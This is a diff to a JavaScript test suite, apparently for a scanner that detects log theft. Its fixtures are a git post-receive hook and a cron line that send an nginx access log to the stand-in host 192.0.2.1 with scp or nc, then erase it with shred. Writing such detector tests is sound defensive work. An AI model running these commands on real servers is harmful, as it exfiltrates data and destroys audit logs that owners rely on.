@@ -43,6 +43,14 @@ system("shred -z $log");
     expect(await found({ path: 'secure/getlogs.php', content })).toEqual([[...SHIPPED, 42, 125]]);
   });
 
+  it('by a hook that no first line calls a script', async () => {
+    const content =
+      'while read old new ref; do\n  scp /var/log/nginx/access.log a@192.0.2.1:\n  shred -z /var/log/nginx/access.log\ndone\n';
+    expect(await found({ path: 'srv/git/pages.git/hooks/post-receive', content })).toEqual([
+      [...SHIPPED, 27, 72],
+    ]);
+  });
+
   it('by cron', async () => {
     const content =
       '*/5 * * * * cat /var/log/nginx/access.log | nc 192.0.2.1 99; shred -z /var/log/nginx/access.log\n';
